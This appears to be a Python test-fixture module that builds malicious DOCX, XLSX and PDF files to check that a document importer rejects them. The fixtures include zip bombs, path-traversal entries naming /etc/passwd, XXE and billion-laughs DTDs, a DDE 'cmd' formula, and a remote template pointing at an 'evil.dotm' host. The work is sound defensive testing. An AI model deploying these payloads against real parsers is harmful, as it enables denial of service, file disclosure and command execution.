"""Files that want to do harm, made on the spot: bombs, overlaps, paths, DTDs, giants, and broken things."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import docx
import xlsxwriter

from tests.importers.papers import HEADER, TITLE, write_docx, write_pdf, write_workbook

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def repacked(source: bytes, change: dict[str, bytes | None], extra: dict[str, bytes] | None = None) -> bytes:
    """A ZIP with some entries replaced (None leaves one out) and others added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            content = change.get(name, old.read(name))
            if content is not None:
                new.writestr(name, content)
        for name, content in (extra or {}).items():
            new.writestr(name, content)
    return out.getvalue()


def honest_docx(folder: Path) -> bytes:
    return write_docx(folder / "honest.docx").read_bytes()


def honest_xlsx(folder: Path) -> bytes:
    return write_workbook(folder / "honest.xlsx").read_bytes()


def bomb(folder: Path) -> bytes:
    """120 MB of blanks in 120 kB, over several parts so that no single one is too large."""
    extra = {f"word/media/{n}.bin": b" " * (20 * 1024 * 1024) for n in range(6)}
    return repacked(honest_docx(folder), {}, extra)


def one_large_part(folder: Path) -> bytes:
    return repacked(honest_docx(folder), {}, {"word/media/x.bin": b"\0" * (31 * 1024 * 1024)})


def lying_header(folder: Path) -> bytes:
    """A part whose headers say ten bytes while it unpacks to 40 MB."""
    data = bytearray(repacked(honest_docx(folder), {}, {"word/media/x.bin": b"\0" * (40 * 1024 * 1024)}))
    real = struct.pack("<L", 40 * 1024 * 1024)
    return bytes(data.replace(real, struct.pack("<L", 10)))


def many_entries(folder: Path) -> bytes:
    return repacked(honest_docx(folder), {}, {f"x/{n}": b"" for n in range(2_001)})


def overlapping(folder: Path) -> bytes:
    """Two names in the directory for the same bytes."""
    data = repacked(honest_docx(folder), {}, {"word/a.bin": b"payload" * 100})
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        offset = archive.getinfo("word/a.bin").header_offset
    out = bytearray(data)
    directory = data.rindex(b"PK\x05\x06")
    size, begin = struct.unpack_from("<LL", data, directory + 12)
    at = data.index(b"word/a.bin", begin) - 46
    entry = bytearray(data[at : at + 46 + len("word/a.bin")])
    entry[46:] = b"word/b.bin"
    assert struct.unpack_from("<L", entry, 42)[0] == offset
    out[directory:directory] = entry
    tail = directory + len(entry)
    count = struct.unpack_from("<H", out, tail + 8)[0] + 1
    struct.pack_into("<HHLL", out, tail + 8, count, count, size + len(entry), begin)
    return bytes(out)


def twice_the_same_name(folder: Path) -> bytes:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        return repacked(honest_docx(folder), {}, {"word/document.xml": b"<x/>"})


def climbing_path(folder: Path) -> bytes:
    return repacked(honest_docx(folder), {}, {"../../etc/passwd": b"x"})


def absolute_path(folder: Path) -> bytes:
    return repacked(honest_docx(folder), {}, {"/etc/passwd": b"x"})


def drive_path(folder: Path) -> bytes:
    return repacked(honest_docx(folder), {}, {"C:\\x": b"x"})


def symlink(folder: Path) -> bytes:
    out = io.BytesIO(honest_docx(folder))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/link")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def with_document(folder: Path, xml: bytes) -> bytes:
    return repacked(honest_docx(folder), {"word/document.xml": xml})


def billion_laughs(folder: Path) -> bytes:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(10))
    return with_document(folder, f'<?xml version="1.0"?><!DOCTYPE x [{entities}]><x>&l9;</x>'.encode())


def outside_entity(folder: Path) -> bytes:
    dtd = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    return with_document(folder, f'<?xml version="1.0"?>{dtd}<x>&e;</x>'.encode())


def dtd_in_utf16(folder: Path) -> bytes:
    return with_document(folder, '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x []><x/>'.encode("utf-16"))


def dtd_in_spreadsheet(folder: Path) -> bytes:
    xml = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "x">]><sst/>'
    return repacked(honest_xlsx(folder), {"xl/sharedStrings.xml": xml})


def xinclude(folder: Path) -> bytes:
    xml = '<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></x>'
    return with_document(folder, xml.encode())


def truncated_zip(folder: Path) -> bytes:
    return honest_docx(folder)[:-900]


def broken_xml(folder: Path) -> bytes:
    return with_document(folder, b"<w:document><w:body>")


def empty_zip(_: Path) -> bytes:
    out = io.BytesIO()
    zipfile.ZipFile(out, "w").close()
    return out.getvalue()


def zip_of_zips(folder: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("plan.docx", honest_docx(folder))
    return out.getvalue()


def truncated_pdf(folder: Path) -> bytes:
    return write_pdf(folder / "p.pdf").read_bytes()[:900]


def looped_pdf(_: Path) -> bytes:
    """A page tree that has itself as its child, and a cross-reference that points at itself."""
    body = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
    table = b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000054 00000 n \n"
    return body + table + b"trailer<</Size 3/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF" % (len(body), len(body))


def scanned_pdf(_: Path) -> bytes:
    """A page that holds a picture and no letter."""
    import typst

    return typst.compile(b"#set page(width: 10cm, height: 10cm)\n#rect(width: 5cm, height: 5cm, fill: red)")


def locked_pdf(_: Path) -> bytes:
    """A document that asks for a password: its keys fit none."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>",
        b"<</Filter/Standard/V 1/R 2/P -4/O<%s>/U<%s>>>" % (b"41" * 32, b"42" * 32),
    ]
    return assembled_pdf(objects, b"/Encrypt 4 0 R/ID[<00><00>]")


def huge_stream_pdf(_: Path) -> bytes:
    """A page whose packed content unpacks to 600 MB of drawing commands."""
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(b"0 0 m 9 9 l S " * 70_000) for _ in range(600)) + packer.flush()
    objects = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Contents 4 0 R>>",
        b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed),
    ]
    return assembled_pdf(objects, b"")


def assembled_pdf(objects: list[bytes], more: bytes) -> bytes:
    """A PDF of these numbered objects with a right cross-reference table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj%s endobj\n" % (number, content)
    begin = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, more, begin)
    return bytes(out)


# What each is refused with. Several codes where the parser and the pre-check may both be first.
REFUSED: dict[str, tuple[Callable[[Path], bytes], str, frozenset[str]]] = {
    make.__name__: (make, suffix, frozenset(codes.split()))
    for make, suffix, codes in (
        (bomb, "docx", "zip-too-large"),
        (one_large_part, "docx", "zip-too-large"),
        (lying_header, "docx", "zip-too-large zip-broken"),
        (many_entries, "docx", "zip-entries"),
        (overlapping, "docx", "zip-overlap zip-broken"),
        (twice_the_same_name, "docx", "zip-broken"),
        (climbing_path, "docx", "zip-path"),
        (absolute_path, "docx", "zip-path"),
        (drive_path, "docx", "zip-path"),
        (symlink, "docx", "zip-path"),
        (billion_laughs, "docx", "dtd"),
        (outside_entity, "docx", "dtd"),
        (dtd_in_utf16, "docx", "dtd"),
        (dtd_in_spreadsheet, "xlsx", "dtd"),
        (xinclude, "docx", "dtd"),
        (truncated_zip, "docx", "zip-broken"),
        (broken_xml, "docx", "unreadable"),
        (empty_zip, "docx", "kind zip-broken"),
        (zip_of_zips, "docx", "kind"),
        (truncated_pdf, "pdf", "unreadable scanned"),
        (looped_pdf, "pdf", "unreadable scanned too-slow too-heavy"),
        (scanned_pdf, "pdf", "scanned"),
        (locked_pdf, "pdf", "password"),
        (huge_stream_pdf, "pdf", "too-heavy too-slow unreadable"),
    )
}


def far_cell(path: Path) -> Path:
    """A plan's sheet with one more cell at the far corner of what a spreadsheet can hold."""
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("jauh")
        sheet.write_row(0, 0, HEADER)
        sheet.write(1_048_575, 16_383, "x")
        _small_plan(book)
    return path


def many_sheets(path: Path) -> Path:
    with xlsxwriter.Workbook(str(path)) as book:
        _small_plan(book)
        for number in range(200):
            book.add_worksheet(f"L{number}")
    return path


def many_rows(path: Path, count: int = 60_000) -> Path:
    with xlsxwriter.Workbook(str(path), {"constant_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, HEADER)
        sheet.write_row(1, 0, ["I", "MANAJEMEN PERUBAHAN"])
        for row in range(2, count):
            sheet.write_row(row, 0, [str(row), "Tim", "Ada", "Menyusun", "SK", "Maret 2026"])
    return path


def _small_plan(book) -> None:
    sheet = book.add_worksheet("Rencana")
    sheet.write(0, 0, TITLE[2])
    sheet.write_row(1, 0, HEADER)
    sheet.write_row(2, 0, ["I", "MANAJEMEN PERUBAHAN"])
    sheet.write_row(3, 0, ["1", "Tim", "Ada", "Menyusun SK", "SK", "Maret 2026"])


def part_with_a_tail(folder: Path) -> bytes:
    """A part whose compressed data end before its size says; what follows is junk. Found by fuzzing: it hung the check."""
    content = b"x" * 300_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(content) + packer.flush() + b"junk" * 10
    data = bytearray(repacked(honest_docx(folder), {}, {"word/a.bin": packed}))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        begin, stored = archive.getinfo("word/a.bin").header_offset, archive.getinfo("word/a.bin").compress_size
    directory = data.rindex(b"word/a.bin") - 46
    # Stored as they are, the packed bytes become the part's own once both headers call them deflated.
    end = begin + 30 + len(b"word/a.bin")
    shorter = data[end : end + stored]
    raw = zlib.decompressobj(-15).decompress(bytes(shorter))
    data[end : end + stored] = raw
    moved = len(raw) - stored
    sizes = struct.pack("<3L", zlib.crc32(content), len(raw), len(content))
    data[begin + 14 : begin + 26] = sizes
    directory += moved
    data[directory + 16 : directory + 28] = sizes
    tail = data.rindex(b"PK\x05\x06")
    struct.pack_into("<L", data, tail + 16, struct.unpack_from("<L", data, tail + 16)[0] + moved)
    return bytes(data)


def endless_column(folder: Path) -> bytes:
    """A cell in a column of forty letters. Found by fuzzing: the reader asked for 263 GB."""
    path = folder / "c.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        _small_plan(book)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    far = b'<c r="C' + b"i" * 40 + b'D9" t="n"><v>1</v></c></row>'
    return repacked(path.read_bytes(), {"xl/worksheets/sheet1.xml": sheet.replace(b"</row>", far, 1)})


def corner_in_single_quotes(folder: Path) -> bytes:
    """The last cell of the largest sheet, named as no spreadsheet program writes it."""
    path = folder / "q.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        _small_plan(book)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    far = b"<c r='XFD1048576' t='n'><v>1</v></c></row>"
    return repacked(path.read_bytes(), {"xl/worksheets/sheet1.xml": sheet.replace(b"</row>", far, 1)})


def macro_workbook(folder: Path) -> bytes:
    """A plan with a macro part, an outside link and a formula that calls a program."""
    path = folder / "m.xlsx"
    with xlsxwriter.Workbook(str(path)) as book:
        _small_plan(book)
        sheet = book.add_worksheet("Rumus")
        sheet.write_formula(0, 0, "=cmd|' /C calc'!A0", None, "diam")
    extra = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0", "xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
    return repacked(path.read_bytes(), {}, extra)


def nested_tables(path: Path, depth: int) -> Path:
    """A plan inside tables inside tables."""
    document = docx.Document()
    document.add_paragraph(TITLE[2])
    cell = document.add_table(rows=1, cols=1).cell(0, 0)
    for _ in range(depth):
        cell = cell.add_table(rows=1, cols=1).cell(0, 0)
    table = cell.add_table(rows=0, cols=6)
    for texts in (
        HEADER,
        ("I", "MANAJEMEN PERUBAHAN", "", "", "", ""),
        ("1", "Tim", "Ada", "Menyusun", "SK", "Maret 2026"),
    ):
        for target, text in zip(table.add_row().cells, texts, strict=True):
            target.text = text
    document.save(str(path))
    return path


def many_paragraphs(folder: Path, count: int = 100_000) -> bytes:
    """A hundred thousand paragraphs before the plan."""
    with zipfile.ZipFile(io.BytesIO(honest_docx(folder))) as archive:
        xml = archive.read("word/document.xml").decode()
    filler = "<w:p><w:r><w:t>isi</w:t></w:r></w:p>" * count
    return with_document(folder, xml.replace("<w:body>", f"<w:body>{filler}", 1).encode())


def remote_template(folder: Path) -> bytes:
    """A document whose template lies on another machine."""
    relations = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" TargetMode="External" Target="http://192.0.2.1/evil.dotm" Type="http://schemas.'
        'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/></Relationships>'
    )
    return repacked(honest_docx(folder), {}, {"word/_rels/settings.xml.rels": relations.encode()})
